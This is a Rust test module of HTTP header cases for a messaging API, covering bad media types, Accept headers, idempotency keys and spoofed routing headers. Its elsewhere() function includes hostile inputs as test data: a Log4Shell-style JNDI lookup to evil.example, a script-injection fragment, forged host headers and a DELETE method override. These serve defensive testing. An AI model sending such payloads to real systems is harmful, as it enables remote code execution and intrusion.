//! Headers that lie, are of no sense, or go on for too long.

use super::Case;

pub(super) fn cases() -> Vec<Case> {
    [media_types(), accept(), keys(), elsewhere()].concat()
}

const SEND: &str = r#"{"conversation":"{c}","message_body":"Hello"}"#;

fn media_types() -> Vec<Case> {
    let send = || Case::new("POST", "/api/messages/");
    let mut cases = Vec::new();
    for media_type in [
        "text/plain",
        "text/json",
        "text/html",
        "text/html; charset=utf-8",
        "application/xml",
        "application/jsonp",
        "application/json-patch+json",
        "application/vnd.api+json",
        "application/octet-stream",
        "application/x-yaml",
        "application",
        "application/",
        "/json",
        "json",
        "*/*",
        "application/json, text/plain",
        "application/json/json",
        "image/png",
        "multipart/mixed; boundary=xyz",
        "x-www-form-urlencoded",
        "",
        ";",
        "\"application/json\"",
    ] {
        let reason = format!("Unsupported media type \"{media_type}\" in request.");
        cases.push(send().body(media_type, SEND).says(415, &reason));
    }
    for (media_type, bytes) in [
        ("application/json; charset=utf-16", SEND.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>()),
        ("application/json; charset=latin1", b"{\"message_body\":\"\xE9\"}".to_vec()),
        ("application/json", b"\x1F\x8B\x08\0\0\0\0\0".to_vec()),
    ] {
        let case = send().body(media_type, bytes).header("content-encoding", "gzip");
        cases.push(case.begins(400, "JSON parse error - ").inside());
    }
    cases.push(send().json("conversation={c}&message_body=Hello").begins(400, "JSON parse error - "));
    cases.push(send().body("application/json\u{E9}", SEND).status(415).inside());
    cases.push(send().body(&format!("text/{}", "x".repeat(10_000)), SEND).status(415).inside());
    cases.push(send().header("content-type", "text/plain").body("application/json", SEND).status(415).inside());
    cases
}

fn accept() -> Vec<Case> {
    let mut cases = Vec::new();
    for accept in [
        "image/png",
        "application/xml",
        "application/json;q=0",
        "application/json;q=0.0",
        "*/*;q=0",
        "application/jsonp",
        "application/json-patch+json",
        "json",
        "nonsense",
        "/",
        ";;;",
        "image/*, audio/*;q=0.5",
        "text/plain, application/xml;q=0.9",
    ] {
        for case in [Case::new("GET", "/api/users/me/"), Case::anonymous("GET", "/api/")] {
            let case = case.header("accept", accept);
            cases.push(case.says(406, "Could not satisfy the request Accept header."));
        }
    }
    let long = vec!["image/png"; 5_000].join(",");
    cases.push(Case::new("GET", "/api/users/me/").header("accept", long).status(406).inside());
    // It is judged before everything else: who asks, whether there is such a thing, what the body says.
    for (method, path) in [("POST", "/api/messages/"), ("PUT", "/api/users/me/"), ("GET", "/api/messages/abc/")] {
        cases.push(Case::anonymous(method, path).header("accept", "image/png").json("{").status(406));
    }
    cases
}

fn keys() -> Vec<Case> {
    let reason = "Idempotency-Key must be 1 to 255 printable ASCII characters.";
    let mut cases = Vec::new();
    for path in ["/api/messages/", "/api/conversations/{c}/messages/"] {
        for (key, inside) in [
            (&b""[..], true),
            (b"a\tb", true),
            (b"caf\xC3\xA9", true),
            (b"\xFF", true),
            ("a".repeat(256).as_bytes(), false),
            ("a".repeat(5_000).as_bytes(), false),
        ] {
            let case = Case::new("POST", path).header("idempotency-key", key).json(SEND).says(400, reason);
            cases.push(if inside { case.inside() } else { case });
        }
    }
    cases
}

/// Headers that say where a request was meant to go change nothing about its refusal.
fn elsewhere() -> Vec<Case> {
    let mut cases = Vec::new();
    for host in ["", "a b", "localhost:99999999", "evil.example", "[::1", "localhost/..", "user@localhost", "\u{E9}"] {
        cases.push(Case::new("GET", "/api/users/abc/").header("host", host).says(404, "Not found.").inside());
    }
    for (name, value) in [
        ("x-forwarded-proto", "gopher"),
        ("x-forwarded-proto", "https, http"),
        ("x-forwarded-host", "evil.example"),
        ("x-http-method-override", "DELETE"),
        ("x-request-id", "\"><script>"),
        ("x-request-id", "${jndi:ldap://evil.example}"),
        ("x-original-url", "/api/conversations/"),
        ("range", "bytes=0-"),
        ("if-match", "*"),
        ("expect", "nothing"),
    ] {
        cases.push(Case::new("GET", "/api/users/abc/").header(name, value).says(404, "Not found.").inside());
    }
    let long = "a".repeat(60_000);
    cases.push(Case::new("GET", "/api/users/abc/").header("x-request-id", long.clone()).status(404).inside());
    cases.push(Case::new("GET", "/api/users/abc/").header("x-long", long).status(404).inside());
    let mut many = Case::new("GET", "/api/users/abc/");
    for n in 0..500 {
        many = many.header(&format!("x-{n}"), "1");
    }
    cases.push(many.status(404).inside());
    cases
}
